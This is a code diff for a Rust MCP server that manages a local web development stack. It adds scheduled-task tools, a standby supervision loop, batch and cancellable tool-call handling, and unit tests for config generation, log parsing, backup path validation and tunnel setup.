+        "{} scheduled task '{}': `{}` every {}s in {}. Due tasks run while Orbit is open (orbit-mcp --standby) or on each `orbit-cli cron run`; output goes to {}",
+        if replaced { "Updated" } else { "Added" },
+        name, command, interval_secs, working_dir,
+        scheduled_task_log_path(name).display()
+    ))
+}
+
+fn tool_list_scheduled_tasks() -> Result<String, String> {
+    let now = chrono::Utc::now().timestamp().max(0) as u64;
+    let tasks: Vec<Value> = read_scheduled_tasks().iter().map(|t| json!({
+        "name": t.name,
+        "command": t.command,
+        "interval_secs": t.interval_secs,
+        "working_dir": t.working_dir,
+        "last_run": t.last_run,
+        "next_run_in_secs": t.last_run.map_or(0, |last| (last + t.interval_secs).saturating_sub(now)),
+        "running": scheduled_task_running(t),
+        "log": scheduled_task_log_path(&t.name).to_string_lossy()
+    })).collect();
+
+    Ok(serde_json::to_string_pretty(&json!({ "tasks": tasks })).unwrap())
+}
+
+fn tool_remove_scheduled_task(name: &str) -> Result<String, String> {
+    let _lock = lock_cron_store()?;
+    let mut tasks = read_scheduled_tasks();
+    let before = tasks.len();
+    tasks.retain(|t| t.name != name);
+    if tasks.len() == before {
+        return Err(format!("No scheduled task named '{}'", name));
+    }
+    write_scheduled_tasks(&tasks)?;
+    Ok(format!("Removed scheduled task '{}'", name))
+}
+
 // ─── Entry Point ─────────────────────────────────────────────────
 
 fn main() {
@@ -5871,6 +14532,12 @@ fn main() {
         return;
     }
 
+    // Subprocess deadline override for every operation (see operation_timeout)
+    let timeout = std::env::args().skip_while(|a| a != "--timeout").nth(1);
+    if let Some(secs) = timeout.and_then(|s| s.parse::<u64>().ok()) {
+        let _ = TIMEOUT_OVERRIDE.set(std::time::Duration::from_secs(secs.max(1)));
+    }
+
     eprintln!("[orbit-mcp] Orbit MCP Server v{} starting...", env!("CARGO_PKG_VERSION"));
     eprintln!("[orbit-mcp] Data dir: {}", get_orbit_data_dir().display());
 
@@ -5878,8 +14545,14 @@ fn main() {
     // Used when started from Orbit GUI (not by an AI tool)
     if std::env::args().any(|a| a == "--standby") {
         eprintln!("[orbit-mcp] Running in standby mode");
+        // Also supervises the services listed in config/watch.json (orbit watch)
+        // and runs due tasks from config/cron.json
+        let mut given_up = std::collections::HashSet::new();
+        let mut cron_running = std::collections::HashMap::new();
         loop {
-            std::thread::sleep(std::time::Duration::from_secs(60));
+            watch_tick(&mut given_up, &get_bin_dir());
+            cron_tick(&mut cron_running);
+            std::thread::sleep(std::time::Duration::from_secs(WATCH_INTERVAL_SECS));
         }
     }
 
@@ -5895,36 +14568,14 @@ fn main() {
             }
         };
 
-        let method = msg.get("method").and_then(|v| v.as_str()).unwrap_or("");
-        let id = msg.get("id").cloned().unwrap_or(Value::Null);
-        let params = msg.get("params").cloned().unwrap_or(json!({}));
-
-        let response = match method {
-            "initialize" => Some(handle_initialize(&id)),
-            "initialized" => {
-                // Notification, no response needed
-                eprintln!("[orbit-mcp] Client initialized");
-                None
-            }
-            "tools/list" => Some(handle_tools_list(&id)),
-            "tools/call" => {
-                let tool_name = params.get("name").and_then(|v| v.as_str()).unwrap_or("");
-                let tool_args = params.get("arguments").cloned().unwrap_or(json!({}));
-                Some(handle_tool_call(&id, tool_name, &tool_args))
-            }
-            "notifications/cancelled" => {
-                eprintln!("[orbit-mcp] Request cancelled");
-                None
-            }
-            "ping" => Some(json_rpc_response(&id, json!({}))),
-            _ => {
-                eprintln!("[orbit-mcp] Unknown method: {}", method);
-                if !id.is_null() {
-                    Some(json_rpc_error(&id, -32601, &format!("Method not found: {}", method)))
-                } else {
-                    None
-                }
-            }
+        // Single tool calls run on a worker thread so a slow one can be
+        // cancelled; batches and everything else are handled inline
+        let is_tool_call = msg.get("method").and_then(|v| v.as_str()) == Some("tools/call")
+            && msg.get("id").is_some_and(|id| !id.is_null());
+        let response = match &msg {
+            Value::Array(batch) => handle_batch(batch),
+            _ if is_tool_call => spawn_tool_call(&msg["id"], msg.get("params").unwrap_or(&json!({}))),
+            _ => handle_message(&msg),
         };
 
         if let Some(resp) = response {
@@ -5934,3 +14585,1599 @@ fn main() {
 
     eprintln!("[orbit-mcp] Server shutting down");
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_batch_skips_notifications_and_isolates_errors() {
+        let batch = vec![
+            json!({ "jsonrpc": "2.0", "id": 1, "method": "ping" }),
+            json!({ "jsonrpc": "2.0", "method": "initialized" }),
+            json!({ "jsonrpc": "2.0", "id": 2, "method": "no/such/method" }),
+            json!(42),
+        ];
+
+        let response = handle_batch(&batch).expect("batch with requests should respond");
+        let responses = response.as_array().unwrap();
+        assert_eq!(responses.len(), 3);
+        assert_eq!(responses[0]["id"], json!(1));
+        assert!(responses[0].get("result").is_some());
+        assert_eq!(responses[1]["error"]["code"], json!(-32601));
+        assert_eq!(responses[2]["error"]["code"], json!(-32600));
+    }
+
+    #[test]
+    fn test_tool_schema_types_are_validatable() {
+        // validate_tool_args compares against json_type_name, so a declared
+        // type it can't produce would reject every call passing the field
+        let producible = [json!(null), json!(true), json!(1), json!(""), json!([]), json!({})].map(|v| json_type_name(&v));
+        for tool in tool_definitions().as_array().unwrap() {
+            for (field, prop) in tool["inputSchema"]["properties"].as_object().into_iter().flatten() {
+                if let Some(expected) = prop["type"].as_str() {
+                    assert!(producible.contains(&expected), "{}.{} declares type '{}'", tool["name"], field, expected);
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn test_validate_tool_args() {
+        assert!(validate_tool_args("read_log", &json!({ "name": "nginx/error.log", "lines": 20 })).is_ok());
+        assert!(validate_tool_args("list_services", &json!({})).is_ok());
+
+        let missing = validate_tool_args("read_log", &json!({})).unwrap_err();
+        assert!(missing.contains("'name'"));
+
+        let mistyped = validate_tool_args("read_log", &json!({ "name": "x", "lines": "20" })).unwrap_err();
+        assert!(mistyped.contains("'lines'") && mistyped.contains("number"));
+
+        let response = handle_tool_call(&json!(7), "start_service", &json!({ "name": 42 }));
+        assert_eq!(response["error"]["code"], json!(-32602));
+    }
+
+    #[test]
+    fn test_batch_of_notifications_has_no_response() {
+        let batch = vec![json!({ "jsonrpc": "2.0", "method": "initialized" })];
+        assert!(handle_batch(&batch).is_none());
+        assert!(handle_batch(&[]).is_some());
+    }
+
+    #[cfg(not(target_os = "windows"))]
+    #[test]
+    fn test_scan_services_finds_unix_binaries() {
+        let tmp = tempfile::tempdir().unwrap();
+        let bin = tmp.path().to_path_buf();
+        fs::create_dir_all(bin.join("nginx")).unwrap();
+        fs::create_dir_all(bin.join("php").join("8.4")).unwrap();
+        fs::write(bin.join("nginx").join("nginx"), "").unwrap();
+        fs::write(bin.join("php").join("8.4").join("php-cgi"), "").unwrap();
+
+        let services = scan_services(&bin);
+
+        let nginx = services.iter().find(|s| s.name == "nginx").expect("nginx should be found");
+        assert_eq!(nginx.service_type, "nginx");
+        let php = services.iter().find(|s| s.name == "php-8.4").expect("php-8.4 should be found");
+        assert_eq!(php.service_type, "php");
+        assert_eq!(services.len(), 2);
+    }
+
+    #[test]
+    fn test_db_json_overrides_default_credentials() {
+        let tmp = tempfile::tempdir().unwrap();
+        let dir = tmp.path().to_path_buf();
+        let path = dir.join("db.json");
+
+        let defaults = credentials_from(read_db_config_at(&path));
+        assert_eq!(defaults.mariadb_auth_args(), vec!["-u", "root", "-proot"]);
+        assert_eq!(defaults.pg_user, "postgres");
+        assert_eq!(defaults.pg_password, "postgres");
+
+        fs::write(&path, r#"{ "mariadb_user": "admin", "mariadb_password": "", "pg_password": "secret" }"#).unwrap();
+        let creds = credentials_from(read_db_config_at(&path));
+
+        assert_eq!(creds.mariadb_auth_args(), vec!["-u", "admin"]);
+        assert_eq!(creds.pg_user, "postgres");
+        assert_eq!(creds.pg_password, "secret");
+    }
+
+    #[test]
+    fn test_is_port_in_use_detects_listener() {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        assert!(is_port_in_use(port));
+        drop(listener);
+    }
+
+    #[test]
+    fn test_apache_module_parsing() {
+        let conf = "LoadModule rewrite_module modules/mod_rewrite.so\n#LoadModule ssl_module modules/mod_ssl.so\n# LoadModule is how modules are loaded\n";
+        let modules = parse_apache_modules(conf);
+        assert_eq!(modules.len(), 2);
+        assert_eq!(modules[0], ("rewrite_module".to_string(), "modules/mod_rewrite.so".to_string(), true));
+        assert!(!modules[1].2);
+
+        assert_eq!(normalize_apache_module("mod_rewrite"), "rewrite_module");
+        assert_eq!(normalize_apache_module("proxy_fcgi"), "proxy_fcgi_module");
+
+        let vhost = "<FilesMatch \\.php$>\n    SetHandler \"proxy:fcgi://127.0.0.1:9004\"\n</FilesMatch>\nAllowOverride All";
+        assert_eq!(required_apache_modules(vhost), vec!["proxy_module", "proxy_fcgi_module", "rewrite_module"]);
+    }
+
+    #[test]
+    fn test_generate_site_apache_config() {
+        let now = chrono_now();
+        let site = SiteMetadata {
+            domain: "shop.test".to_string(),
+            aliases: vec!["www.shop.test".to_string()],
+            path: "/srv/shop".to_string(),
+            port: 80,
+            php_version: Some("8.3".to_string()),
+            php_port: None,
+            ssl_enabled: false,
+            hsts: false,
+            gzip: false,
+            brotli: false,
+            ssl_cert_path: None,
+            ssl_key_path: None,
+            template: Some("laravel".to_string()),
+            web_server: "nginx".to_string(),
+            dev_port: None,
+            dev_command: None,
+            created_at: now.clone(),
+            updated_at: now,
+        };
+        let conf = generate_site_apache_config(&site, std::path::Path::new("/orbit/bin"));
+        assert!(conf.starts_with("<VirtualHost *:80>"));
+        assert!(conf.contains("ServerAlias www.shop.test\n"));
+        assert!(conf.contains("DocumentRoot \"/srv/shop/public\""));
+        assert!(conf.contains("proxy:fcgi://127.0.0.1:9003"));
+        assert_eq!(required_apache_modules(&conf), vec!["proxy_module", "proxy_fcgi_module", "rewrite_module"]);
+
+        let proxied = SiteMetadata { dev_port: Some(5173), php_version: None, ..site };
+        let conf = generate_site_apache_config(&proxied, std::path::Path::new("/orbit/bin"));
+        assert!(conf.contains("ProxyPass / http://127.0.0.1:5173/"));
+        assert!(!conf.contains("DocumentRoot"));
+    }
+
+    #[cfg(not(target_os = "windows"))]
+    #[test]
+    fn test_run_with_timeout_kills_sleeping_process() {
+        let started = std::time::Instant::now();
+        let result = run_with_timeout(
+            Command::new("sleep").arg("30"),
+            std::time::Duration::from_millis(300),
+        );
+        let err = result.expect_err("sleep should have been killed");
+        assert!(err.contains("timed out"), "unexpected error: {}", err);
+        assert!(started.elapsed() < std::time::Duration::from_secs(5));
+
+        let output = run_with_timeout_input(
+            &mut Command::new("cat"),
+            Some(b"hello".to_vec()),
+            std::time::Duration::from_secs(5),
+        ).unwrap();
+        assert!(output.status.success());
+        assert_eq!(output.stdout, b"hello");
+    }
+
+    #[test]
+    fn test_http_response_body_decodes_chunked_bytes() {
+        // "é" (0xC3 0xA9) is split across the first two chunks
+        let body = "{\"name\":\"caf\u{e9}\"}".as_bytes();
+        let mut response = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\ntransfer-encoding: chunked\r\n\r\n".to_vec();
+        let split = body.len() - 3;
+        response.extend_from_slice(format!("{:x};ext=1\r\n", split).as_bytes());
+        response.extend_from_slice(&body[..split]);
+        response.extend_from_slice(b"\r\n3\r\n");
+        response.extend_from_slice(&body[split..]);
+        response.extend_from_slice(b"\r\n0\r\n\r\n");
+
+        assert_eq!(http_response_body(&response).unwrap(), "{\"name\":\"caf\u{e9}\"}");
+        assert!(decode_chunked(b"a\r\nshort\r\n").is_err());
+        assert_eq!(http_response_body(b"HTTP/1.1 200 OK\r\n\r\nplain").unwrap(), "plain");
+    }
+
+    #[cfg(not(target_os = "windows"))]
+    #[test]
+    fn test_run_command_separates_streams_and_exit_code() {
+        let result = run_command(
+            Command::new("sh").args(["-c", "echo out; echo err >&2; exit 3"]),
+            "default",
+        ).unwrap();
+        assert_eq!(result.stdout, "out\n");
+        assert_eq!(result.stderr, "err\n");
+        assert_eq!(result.code, Some(3));
+        assert!(!result.success());
+        assert_eq!(result.error_detail(), "err (exit code 3)");
+
+        let response: Value = serde_json::from_str(&command_result_response(result).unwrap_err()).unwrap();
+        assert_eq!(response["exit_code"], 3);
+        assert_eq!(response["stdout"], "out\n");
+    }
+
+    #[test]
+    fn test_failed_config_test_restores_original_bytes() {
+        let tmp = tempfile::tempdir().unwrap();
+        let dir = tmp.path().to_path_buf();
+        let conf = dir.join("shop.test.conf");
+        let original: &[u8] = b"server {\r\n    listen 80;\xff\r\n}\n";
+        fs::write(&conf, original).unwrap();
+
+        let result = write_with_rollback(&conf, "server { broken", || {
+            Err("Nginx config test failed: unexpected end of file".to_string())
+        });
+        let restored = fs::read(&conf).unwrap();
+        let bak_exists = dir.join("shop.test.conf.bak").exists();
+
+        let bare = dir.join("Caddyfile");
+        fs::write(&bare, "x").unwrap();
+        let bare_bak = backup_file(&bare).unwrap();
+
+        assert!(result.unwrap_err().contains("rolled back"));
+        assert_eq!(restored, original);
+        assert!(bak_exists);
+        assert_eq!(bare_bak, Some(dir.join("Caddyfile.bak")));
+    }
+
+    #[test]
+    fn test_classify_log_line_per_service() {
+        assert_eq!(log_format("php-8.4/php_errors.log"), "php");
+        assert_eq!(log_format("mailpit/mailpit.log"), "generic");
+
+        let nginx = "2024/01/01 12:00:00 [error] 123#0: *1 connect() failed (111: Connection refused)";
+        assert_eq!(classify_log_line("nginx", nginx), LogSeverity::Error);
+        assert_eq!(classify_log_line("nginx", "2024/01/01 12:00:00 [warn] 1#0: conflicting server name"), LogSeverity::Warning);
+        assert_eq!(classify_log_line("nginx", "127.0.0.1 - - [01/Jan/2024:12:00:00 +0000] \"GET / HTTP/1.1\" 502 157"), LogSeverity::Error);
+        assert_eq!(classify_log_line("nginx", "127.0.0.1 - - [01/Jan/2024:12:00:00 +0000] \"GET /error HTTP/1.1\" 200 10"), LogSeverity::Info);
+        assert_eq!(classify_log_line("apache", "[Mon Jan 01 12:00:00 2024] [proxy_fcgi:error] [pid 42] AH01079: failed"), LogSeverity::Error);
+
+        assert_eq!(classify_log_line("php", "[01-Jan-2024 12:00:00 UTC] PHP Fatal error:  Uncaught Error"), LogSeverity::Error);
+        assert_eq!(classify_log_line("php", "[01-Jan-2024 12:00:00 UTC] PHP Warning:  Undefined variable $x"), LogSeverity::Warning);
+        assert_eq!(classify_log_line("php", "[01-Jan-2024 12:00:00 UTC] PHP Deprecated:  error_log() usage"), LogSeverity::Info);
+
+        assert_eq!(classify_log_line("mariadb", "2024-01-01 12:00:00 0 [ERROR] InnoDB: Unable to lock ./ibdata1"), LogSeverity::Error);
+        assert_eq!(classify_log_line("mariadb", "2024-01-01 12:00:00 0 [Note] InnoDB: error log rotated"), LogSeverity::Info);
+
+        assert_eq!(classify_log_line("redis", "1234:M 01 Jan 2024 12:00:00.000 # WARNING overcommit_memory is set to 0!"), LogSeverity::Warning);
+        assert_eq!(classify_log_line("redis", "1234:M 01 Jan 2024 12:00:00.000 * Ready to accept connections"), LogSeverity::Info);
+    }
+
+    #[test]
+    fn test_read_appended_tracks_offset_and_rotation() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("tail.log");
+        fs::write(&path, "first\n").unwrap();
+        let (content, offset, truncated) = read_appended(&path, 0).unwrap();
+        assert_eq!((content.as_slice(), offset, truncated), (&b"first\n"[..], 6, false));
+
+        fs::OpenOptions::new().append(true).open(&path).unwrap().write_all(b"second\n").unwrap();
+        let (content, offset, truncated) = read_appended(&path, offset).unwrap();
+        assert_eq!((content.as_slice(), offset, truncated), (&b"second\n"[..], 13, false));
+
+        // Rotation: the file is now shorter than the client's offset
+        fs::write(&path, "new\n").unwrap();
+        let (content, offset, truncated) = read_appended(&path, offset).unwrap();
+        assert_eq!((content.as_slice(), offset, truncated), (&b"new\n"[..], 4, true));
+    }
+
+    #[test]
+    fn test_parse_log_timestamp_formats() {
+        let utc = |s: &str| chrono::DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&chrono::Utc);
+        assert_eq!(
+            parse_log_timestamp("php", "[01-Jan-2024 12:00:00 UTC] PHP Fatal error:  Uncaught Error"),
+            Some(utc("2024-01-01T12:00:00Z"))
+        );
+        assert_eq!(
+            parse_log_timestamp("nginx", "127.0.0.1 - - [01/Jan/2024:12:00:00 +0200] \"GET / HTTP/1.1\" 502 157"),
+            Some(utc("2024-01-01T10:00:00Z"))
+        );
+        assert_eq!(
+            parse_log_timestamp("mongodb", r#"{"t":{"$date":"2024-01-01T12:00:00.123+00:00"},"s":"E"}"#),
+            Some(utc("2024-01-01T12:00:00.123Z"))
+        );
+        assert_eq!(
+            parse_log_timestamp("postgresql", "2024-01-01 12:00:00.123 UTC [42] ERROR:  boom"),
+            Some(utc("2024-01-01T12:00:00Z"))
+        );
+        // Local-time formats only need to parse
+        assert!(parse_log_timestamp("nginx", "2024/01/01 12:00:00 [error] 1#0: boom").is_some());
+        assert!(parse_log_timestamp("apache", "[Mon Jan 01 12:00:00.123456 2024] [core:error] boom").is_some());
+        assert!(parse_log_timestamp("mariadb", "2024-01-01 12:00:00 0 [ERROR] boom").is_some());
+        assert!(parse_log_timestamp("redis", "1234:M 01 Jan 2024 12:00:00.000 # boom").is_some());
+        assert!(parse_log_timestamp("generic", "    at Foo.bar (app.js:1:1)").is_none());
+    }
+
+    #[cfg(not(any(target_os = "windows", target_os = "macos")))]
+    #[test]
+    fn test_reveal_command_opens_containing_folder() {
+        let tmp = tempfile::tempdir().unwrap();
+        let dir = tmp.path().to_path_buf();
+        let file = dir.join("dump.sql");
+        fs::write(&file, "").unwrap();
+
+        let cmd = reveal_command(&file);
+        assert_eq!(cmd.get_program(), "xdg-open");
+        assert_eq!(cmd.get_args().collect::<Vec<_>>(), vec![dir.as_os_str()]);
+
+        let cmd = reveal_command(&dir);
+        assert_eq!(cmd.get_args().collect::<Vec<_>>(), vec![dir.as_os_str()]);
+
+        assert!(tool_reveal_path(dir.join("missing.sql").to_str().unwrap()).unwrap_err().starts_with("Path not found"));
+    }
+
+    #[test]
+    fn test_replace_fastcgi_port_keeps_other_lines() {
+        let config = "server {\n    listen 80;\n    # custom: keep me\n    location ~ \\.php$ {\n        fastcgi_pass 127.0.0.1:9004;\n        include fastcgi_params;\n    }\n}\n";
+        let updated = replace_fastcgi_port(config, 9003).unwrap();
+        assert_eq!(updated, config.replace("127.0.0.1:9004", "127.0.0.1:9003"));
+
+        let crlf = config.replace('\n', "\r\n");
+        assert_eq!(replace_fastcgi_port(&crlf, 9002).unwrap(), crlf.replace("127.0.0.1:9004", "127.0.0.1:9002"));
+
+        assert!(replace_fastcgi_port("server {\n    listen 80;\n}\n", 9003).is_none());
+    }
+
+    fn nginx_site(domain: &str, php_version: Option<&str>, ssl: bool, hsts: bool) -> SiteMetadata {
+        SiteMetadata {
+            domain: domain.to_string(),
+            aliases: Vec::new(),
+            path: "/srv/shop".to_string(),
+            port: if ssl { 443 } else { 80 },
+            php_version: php_version.map(String::from),
+            php_port: None,
+            ssl_enabled: ssl,
+            hsts,
+            gzip: false,
+            brotli: false,
+            ssl_cert_path: None,
+            ssl_key_path: None,
+            template: None,
+            web_server: "nginx".to_string(),
+            dev_port: None,
+            dev_command: None,
+            created_at: String::new(),
+            updated_at: String::new(),
+        }
+    }
+
+    #[test]
+    fn test_generate_site_nginx_config_lists_aliases() {
+        let bin_dir = PathBuf::from("/orbit/bin");
+        let site = SiteMetadata {
+            aliases: vec!["www.shop.test".to_string(), "api.shop.test".to_string()],
+            ..nginx_site("shop.test", Some("8.3"), false, false)
+        };
+        let conf = generate_site_nginx_config(&site, &bin_dir);
+        assert!(conf.contains("    server_name shop.test www.shop.test api.shop.test;\n"));
+
+        let conf = generate_site_nginx_config(&nginx_site("shop.test", None, false, false), &bin_dir);
+        assert!(conf.contains("    server_name shop.test;\n"));
+    }
+
+    #[test]
+    fn test_ssl_site_config_redirects_http_to_https() {
+        let bin_dir = PathBuf::from("/orbit/bin");
+        let conf = generate_site_nginx_config(&nginx_site("shop.test", Some("8.4"), true, true), &bin_dir);
+        assert_eq!(conf.matches("server {").count(), 2);
+
+        let (redirect, main) = conf.split_once("\n\nserver {").unwrap();
+        assert!(redirect.contains("    listen 80;\n    server_name shop.test;\n    return 301 https://$host$request_uri;"));
+        assert!(main.contains("    listen 443 ssl"));
+        assert!(main.contains("    ssl_protocols TLSv1.2 TLSv1.3;"));
+        assert!(main.contains("add_header Strict-Transport-Security \"max-age=31536000\" always;"));
+        assert!(!main.contains("listen 80;"));
+
+        let conf = generate_site_nginx_config(&nginx_site("shop.test", Some("8.4"), true, false), &bin_dir);
+        assert!(!conf.contains("Strict-Transport-Security"));
+
+        // Plain HTTP sites keep a single block
+        let conf = generate_site_nginx_config(&nginx_site("shop.test", Some("8.4"), false, true), &bin_dir);
+        assert_eq!(conf.matches("server {").count(), 1);
+        assert!(!conf.contains("return 301"));
+        assert!(!conf.contains("Strict-Transport-Security"));
+    }
+
+    #[test]
+    fn test_proxy_site_config_forwards_to_dev_server() {
+        let bin_dir = PathBuf::from("/orbit/bin");
+        let site = SiteMetadata {
+            template: Some("reverse-proxy".to_string()),
+            dev_port: proxy_dev_port(Some("reverse-proxy")),
+            ..nginx_site("app.test", None, false, false)
+        };
+        let conf = generate_site_nginx_config(&site, &bin_dir);
+        assert!(conf.contains("        proxy_pass http://127.0.0.1:3000;\n        proxy_set_header Host $host;\n        proxy_http_version 1.1;\n        proxy_set_header Upgrade $http_upgrade;\n        proxy_set_header Connection \"upgrade\";"));
+        assert!(!conf.contains("fastcgi_pass"));
+        assert!(!conf.contains("try_files"));
+
+        assert_eq!(proxy_dev_port(Some("django")), Some(8000));
+        assert_eq!(proxy_dev_port(Some("laravel")), None);
+        assert_eq!(proxy_dev_port(None), None);
+
+        assert_eq!(site_dev_port(Some("nextjs"), None), Ok(Some(3000)));
+        assert_eq!(site_dev_port(Some("reverse-proxy"), Some(8080)), Ok(Some(8080)));
+        assert_eq!(site_dev_port(None, Some(4000)), Ok(Some(4000)));
+        assert_eq!(site_dev_port(Some("static"), None), Ok(None));
+        assert!(site_dev_port(Some("laravel"), Some(8080)).is_err());
+        assert!(site_dev_port(None, Some(0)).is_err());
+    }
+
+    #[test]
+    fn test_site_compression_directives() {
+        assert_eq!(compression_directives(false, false), "");
+        let both = compression_directives(true, true);
+        assert!(both.starts_with("\n    gzip on;\n    gzip_types text/plain"));
+        assert!(both.contains("\n    brotli on;\n    brotli_types text/plain"));
+        assert!(!compression_directives(true, false).contains("brotli"));
+
+        // No nginx in this bin dir, so brotli is dropped rather than failing nginx -t
+        let tmp = tempfile::tempdir().unwrap();
+        let bin_dir = tmp.path().to_path_buf();
+        let site = SiteMetadata { gzip: true, brotli: true, ..nginx_site("shop.test", Some("8.4"), false, false) };
+        let conf = generate_site_nginx_config(&site, &bin_dir);
+        assert!(conf.contains("    listen 80;\n    gzip on;"));
+        assert!(!conf.contains("brotli"));
+    }
+
+    #[test]
+    fn test_preflight_reports_uninitialized_data_dir_and_port_clash() {
+        let tmp = tempfile::tempdir().unwrap();
+        let bin = tmp.path().to_path_buf();
+        fs::create_dir_all(bin.join("mariadb").join("bin")).unwrap();
+        let mariadbd = bin.join("mariadb").join("bin").join("mariadbd");
+        fs::write(&mariadbd, "").unwrap();
+
+        let service = |name: &str, service_type: &str, path: &std::path::Path| ServiceInfo {
+            name: name.to_string(),
+            version: "1.0".to_string(),
+            path: path.to_string_lossy().to_string(),
+            service_type: service_type.to_string(),
+        };
+        let mariadb = service("mariadb", "mariadb", &mariadbd);
+        let nginx = service("nginx", "nginx", &bin.join("nginx").join("nginx"));
+
+        let problems = preflight_check(&mariadb, &bin);
+        assert!(problems.iter().any(|p| p.contains("MariaDB data directory is not initialized")), "{:?}", problems);
+
+        fs::create_dir_all(bin.join("data").join("mariadb").join("mysql")).unwrap();
+        assert!(!preflight_check(&mariadb, &bin).iter().any(|p| p.contains("data directory")));
+
+        let problems = preflight_check(&nginx, &bin);
+        assert!(problems.iter().any(|p| p.starts_with("executable not found")), "{:?}", problems);
+
+        // Apache is installed on 8082, clear of nginx, unless httpd.conf says otherwise
+        assert_eq!(service_port_in("apache", &bin), Some(APACHE_DEFAULT_PORT));
+        let ports = [("nginx", service_port_in("nginx", &bin)), ("apache", service_port_in("apache", &bin))];
+        assert!(port_clashes(&ports).is_empty());
+
+        fs::create_dir_all(bin.join("apache").join("conf")).unwrap();
+        fs::write(bin.join("apache").join("conf").join("httpd.conf"), "ListenBacklog 511\nListen 127.0.0.1:80\n").unwrap();
+        assert_eq!(apache_listen_port(&bin), 80);
+        let ports = [("nginx", service_port_in("nginx", &bin)), ("apache", service_port_in("apache", &bin)), ("redis", None)];
+        assert_eq!(port_clashes(&ports), vec![("apache", "port 80 is also used by nginx".to_string())]);
+    }
+
+    #[test]
+    fn test_ssl_listen_directives_modern_nginx() {
+        assert!(nginx_has_http2_directive("1.25.1"));
+        assert!(nginx_has_http2_directive("1.27"));
+        let lines = ssl_listen_directives(std::path::Path::new("/orbit/bin/nginx/ssl"), "shop.test", true);
+        assert!(lines.starts_with("    listen 443 ssl;\n    http2 on;\n"));
+        assert!(lines.contains("    ssl_certificate /orbit/bin/nginx/ssl/shop.test.pem;"));
+        assert!(lines.ends_with("    ssl_protocols TLSv1.2 TLSv1.3;"));
+    }
+
+    #[test]
+    fn test_ssl_listen_directives_legacy_nginx() {
+        assert!(!nginx_has_http2_directive("1.24.0"));
+        assert!(!nginx_has_http2_directive("1.25.0"));
+        assert!(!nginx_has_http2_directive("unknown"));
+        let lines = ssl_listen_directives(std::path::Path::new("/orbit/bin/nginx/ssl"), "shop.test", false);
+        assert!(lines.starts_with("    listen 443 ssl http2;\n"));
+        assert!(!lines.contains("http2 on;"));
+        assert!(lines.ends_with("    ssl_protocols TLSv1.2 TLSv1.3;"));
+    }
+
+    #[test]
+    fn test_laravel_project_root_detects_artisan() {
+        let tmp = tempfile::tempdir().unwrap();
+        let root = tmp.path().to_path_buf();
+        fs::create_dir_all(root.join("public")).unwrap();
+
+        assert!(laravel_project_root(&root.to_string_lossy()).is_none());
+
+        fs::write(root.join("artisan"), "<?php").unwrap();
+        assert_eq!(laravel_project_root(&root.to_string_lossy()), Some(root.clone()));
+        // Sites pointing at public/ resolve to the project root
+        assert_eq!(laravel_project_root(&root.join("public").to_string_lossy()), Some(root.clone()));
+    }
+
+    #[test]
+    fn test_backup_entry_target_only_accepts_backup_layout() {
+        use std::path::Path;
+        let config = Path::new("/orbit/config");
+        let bin = Path::new("/orbit/bin");
+        let target = |name: &str| backup_entry_target(Path::new(name), config, bin);
+
+        assert_eq!(target("config/sites.json"), Some(config.join("sites.json")));
+        assert_eq!(target("config/deploy-manifests/a.json"), Some(config.join("deploy-manifests").join("a.json")));
+        assert_eq!(target("data/mariadb/ibdata1"), Some(bin.join("data").join("mariadb").join("ibdata1")));
+
+        assert_eq!(target("config"), None);
+        assert_eq!(target("data/ibdata1"), None);
+        assert_eq!(target("bin/nginx/nginx.exe"), None);
+        assert_eq!(target("configs/evil.json"), None);
+    }
+
+    #[test]
+    fn test_scaffold_site_starter_skips_existing_index() {
+        let tmp = tempfile::tempdir().unwrap();
+        let root = tmp.path().to_path_buf();
+        let site = SiteMetadata { path: root.to_string_lossy().to_string(), ..nginx_site("shop.test", Some("8.4"), false, false) };
+
+        let written = scaffold_site_starter(&site).unwrap();
+        assert_eq!(written, vec![root.join("index.php")]);
+        let page = fs::read_to_string(&written[0]).unwrap();
+        assert!(page.contains("<title>shop.test</title>"));
+        assert!(page.contains("new PDO('mysql:host=127.0.0.1;port=3306'"));
+        assert!(page.contains("/adminer/\">Adminer</a>") && page.contains(":8025/\">Mailpit</a>"));
+        assert!(!page.contains("{{"));
+
+        assert!(scaffold_site_starter(&site).unwrap().is_empty());
+
+        // Static sites get an HTML page and its stylesheet
+        fs::remove_file(&written[0]).unwrap();
+        let static_site = SiteMetadata { php_version: None, ..site };
+        assert_eq!(
+            scaffold_site_starter(&static_site).unwrap(),
+            vec![root.join("index.html"), root.join("style.css")]
+        );
+        let page = fs::read_to_string(root.join("index.html")).unwrap();
+        assert!(page.contains("/adminer/\">Adminer</a>") && page.contains(":8025/\">Mailpit</a>"));
+    }
+
+    #[test]
+    fn test_is_service_image_matches_with_or_without_exe() {
+        assert!(is_service_image("mariadb", "mysqld"));
+        assert!(is_service_image("mariadb", "MariaDBd.exe"));
+        assert!(is_service_image("php-8.4", "php-cgi"));
+        assert!(!is_service_image("mariadb", "postgres"));
+        assert!(!is_service_image("nginx", "httpd.exe"));
+    }
+
+    #[test]
+    fn test_parse_tunnel_url_from_client_output() {
+        let cloudflared = "INF Requesting new quick Tunnel on trycloudflare.com...\n\
+            INF |  https://quiet-river-1234.trycloudflare.com                                   |\n";
+        assert_eq!(
+            parse_tunnel_url("cloudflared", cloudflared).as_deref(),
+            Some("https://quiet-river-1234.trycloudflare.com")
+        );
+        assert_eq!(parse_tunnel_url("cloudflared", "INF Starting tunnel https://api.trycloudflare.com"), None);
+
+        let ngrok = "t=2024 lvl=info msg=\"started tunnel\" obj=tunnels name=command_line addr=http://127.0.0.1:80 url=https://ab12.ngrok-free.app\n";
+        assert_eq!(parse_tunnel_url("ngrok", ngrok).as_deref(), Some("https://ab12.ngrok-free.app"));
+    }
+
+    #[test]
+    fn test_tunnel_args_follow_site_ssl() {
+        let (url, args) = tunnel_args("cloudflared", "app.test", 80, false);
+        assert_eq!(url, "http://127.0.0.1:80");
+        assert!(!args.contains(&"--no-tls-verify".to_string()));
+
+        let (url, args) = tunnel_args("cloudflared", "app.test", 443, true);
+        assert_eq!(url, "https://127.0.0.1:443");
+        assert!(args.ends_with(&["--no-tls-verify".to_string(), "--origin-server-name".to_string(), "app.test".to_string()]));
+
